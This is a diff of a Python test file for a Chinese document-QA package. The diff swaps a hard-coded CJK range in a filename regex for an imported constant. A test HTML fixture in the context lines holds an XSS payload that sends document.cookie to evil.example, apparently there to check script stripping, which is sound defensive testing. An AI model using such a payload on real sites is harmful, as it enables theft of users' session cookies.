@@ -13,6 +13,7 @@ from hypothesis import strategies as st
 
 from conftest import LAKE_ARTICLE, ORCHARD_ARTICLE
 from dadong_qa import QA, Answer, QuestionError, load_settings
+from dadong_qa.text import CJK
 from dadong_qa.ui import add_uploads, chat_stream
 
 ODD = [
@@ -99,7 +100,7 @@ def test_concurrent_asks_match_sequential(built_qa: QA):
 
 
 ORCHARD_Q = "示例县苹果种植面积有多少亩？"
-SAFE_NAME = re.compile(r"^[0-9A-Za-z_\-\u4e00-\u9fff]+\.(txt|md|html|htm)$")
+SAFE_NAME = re.compile(rf"^[0-9A-Za-z_\-{CJK}]+\.(txt|md|html|htm)$")
 SCRIPT_HTML = """<html><head><title>示例县苹果节开幕</title><script>alert('head')</script></head>
 <body><nav>首页 | 新闻</nav><script>document.location='http://evil.example/'+document.cookie</script>
 <article><h1>示例县苹果节开幕</h1><p>第七届示例县苹果节于9月20日在红石村开幕。</p>
